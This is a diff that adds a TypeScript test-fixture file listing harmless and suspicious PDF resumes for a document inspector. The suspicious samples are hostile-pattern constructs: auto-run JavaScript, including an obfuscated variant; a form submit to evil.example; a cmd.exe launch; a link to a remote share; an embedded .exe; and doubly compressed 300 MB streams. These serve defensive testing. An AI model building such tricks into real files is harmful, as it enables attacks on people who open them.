@@ -1,0 +1,155 @@
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { deflateSync } from 'node:zlib';
+import { asciiHex, packedPdf, plainPdf } from './pdf-files.ts';
+import { pdf } from './resume-files.ts';
+
+/** PDF resumes of all kinds, with what an inspection has to say of them. */
+
+type Harmless = readonly [name: string, file: Buffer];
+type Telling = readonly [name: string, file: Buffer, finding: string];
+
+const fixture = (name: string) =>
+  readFileSync(fileURLToPath(new URL(`../../fixtures/resumes/${name}`, import.meta.url)));
+const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
+const opensScript = { catalog: '/OpenAction 4 0 R', objects: [script] };
+const annotation = (text: string) => plainPdf({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${text}>>]` });
+const link = (action: string) => annotation(`/Subtype/Link/A<<${action}>>`);
+const formField = (text: string) =>
+  plainPdf({
+    catalog: '/AcroForm<</Fields[4 0 R]>>',
+    page: '/Annots[4 0 R]',
+    objects: [`<</Type/Annot/Subtype/Widget/T(a)/Rect[0 0 9 9]${text}>>`],
+  });
+const embedded = { dictionary: '/Type/EmbeddedFile', stream: Buffer.from('MZ') };
+const fileSpecification = '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>';
+const bookmark = (action: string) =>
+  plainPdf({
+    catalog: '/Outlines 4 0 R',
+    objects: ['<</First 5 0 R/Last 5 0 R/Count 1>>', `<</Title(Skills)/Parent 4 0 R ${action}>>`],
+  });
+
+export const harmlessPdf: readonly Harmless[] = [
+  ['Chromium, with links to mail, telephone and web', fixture('chromium-plain.pdf')],
+  ['Chromium, with a table and a link within', fixture('chromium-table.pdf')],
+  ['Chromium, with a picture', fixture('chromium-picture.pdf')],
+  ['Chromium, in Devanagari', fixture('chromium-devanagari.pdf')],
+  ['LibreOffice, with a link', fixture('libreoffice-link.pdf')],
+  ['LibreOffice, in Devanagari', fixture('libreoffice-devanagari.pdf')],
+  ['object streams', packedPdf()],
+  ['without a cross-reference, which readers repair', pdf('% I write JavaScript and launch sites')],
+  ['with a web link', link('/S/URI/URI(https://asha.example)')],
+  ['with a web link without a scheme', link('/S/URI/URI(www.asha.example)')],
+  ['with bookmarks', bookmark('/Dest[3 0 R/Fit]')],
+  ['with a form that was filled in', formField('/FT/Tx/V(Asha Rane)')],
+  ['that opens on its first page', plainPdf({ catalog: '/OpenAction[3 0 R/Fit]' })],
+  ['of 5 MB', pdf(`% ${'x'.repeat(5 * 1024 * 1024 - 400)}`)],
+];
+
+export const activePdf: readonly Telling[] = [
+  ['B9: JavaScript', plainPdf(opensScript), 'JavaScript'],
+  [
+    'B9: JavaScript in hidden letters',
+    plainPdf({ ...opensScript, objects: ['<</S/J#61vaScript/JS(app.alert(1))>>'] }),
+    'JavaScript',
+  ],
+  ['B9: JavaScript in an object stream', packedPdf(opensScript), 'JavaScript'],
+  ['B9: /ObjSt#6d', packedPdf(opensScript, { typeName: '/ObjSt#6d' }), 'JavaScript'],
+  [
+    'B9: a dictionary of over 400 characters',
+    packedPdf(opensScript, { dictionary: `/Note(${'x'.repeat(900)})/Filter/FlateDecode` }),
+    'JavaScript',
+  ],
+  [
+    'B9: ASCIIHex and Flate',
+    packedPdf(opensScript, {
+      dictionary: '/Filter[/ASCIIHexDecode/FlateDecode]',
+      encode: (data) => asciiHex(deflateSync(data)),
+    }),
+    'JavaScript',
+  ],
+  ['B9: a stream of over 5 MB', packedPdf(opensScript, { padding: 6 * 1024 * 1024 }), 'JavaScript'],
+  ['B9: after 20 MB of padding', packedPdf(opensScript, { padding: 21 * 1024 * 1024 }), 'JavaScript'],
+  [
+    'JavaScript by name',
+    plainPdf({ catalog: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', objects: [script] }),
+    'JavaScript',
+  ],
+  ['JavaScript as the document closes', plainPdf({ catalog: `/AA<</WC ${script}>>` }), 'JavaScript'],
+  ['JavaScript as a page opens', plainPdf({ page: `/AA<</O ${script}>>` }), 'JavaScript'],
+  ['JavaScript of a form field', formField(`/FT/Tx/AA<</K ${script}>>`), 'JavaScript'],
+  [
+    'JavaScript of a link',
+    annotation(`/Subtype/Link/A ${script}`),
+    'a link or button with an action that our reader does not know',
+  ],
+  [
+    'JavaScript of a bookmark',
+    bookmark(`/A ${script}`),
+    'a link or button with an action that our reader does not know',
+  ],
+  [
+    'a button that sends the form',
+    formField('/FT/Btn/Ff 65536/A<</S/SubmitForm/F(http://evil.example)>>'),
+    'a link or button with an action that our reader does not know',
+  ],
+  [
+    'a program to launch',
+    link('/S/Launch/F(cmd.exe)'),
+    'a link to a file or program, or one without https://',
+  ],
+  [
+    'another document on a share',
+    link('/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]'),
+    'a link to a file or program, or one without https://',
+  ],
+  [
+    'a file inside',
+    plainPdf({
+      catalog: `/Names<</EmbeddedFiles<</Names[(a.exe)${fileSpecification}]>>>>`,
+      objects: [embedded],
+    }),
+    'an attached file',
+  ],
+  [
+    'a file pinned to a page',
+    plainPdf({
+      page: `/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS${fileSpecification}>>]`,
+      objects: [embedded],
+    }),
+    'an attached file',
+  ],
+  ['a portfolio', plainPdf({ catalog: '/Collection<</View/D>>' }), 'an attached file'],
+  ['rich media', annotation('/Subtype/RichMedia'), 'sound, film or a 3D model'],
+  ['a 3D model', annotation('/Subtype/3D'), 'sound, film or a 3D model'],
+  [
+    'a dynamic form',
+    plainPdf({
+      catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>',
+      objects: [{ dictionary: '', stream: Buffer.from('<xdp/>') }],
+    }),
+    'a dynamic form (XFA)',
+  ],
+];
+
+export const unreadablePdf: readonly Telling[] = [
+  ['half a PDF', plainPdf().subarray(0, 60), 'damaged'],
+  ['a locked PDF of LibreOffice', fixture('libreoffice-locked.pdf'), 'locked with a password'],
+];
+
+/** Made on demand: that alone takes seconds. */
+export const hugePdf = (): readonly (readonly [name: string, file: Buffer])[] => [
+  ['an object stream of 300 MB', packedPdf(opensScript, { padding: 300 * 1024 * 1024 })],
+  [
+    'a script packed twice',
+    plainPdf({
+      catalog: '/OpenAction<</S/JavaScript/JS 4 0 R>>',
+      objects: [
+        {
+          dictionary: '/Filter[/FlateDecode/FlateDecode]',
+          stream: deflateSync(deflateSync(Buffer.alloc(300 * 1024 * 1024))),
+        },
+      ],
+    }),
+  ],
+];
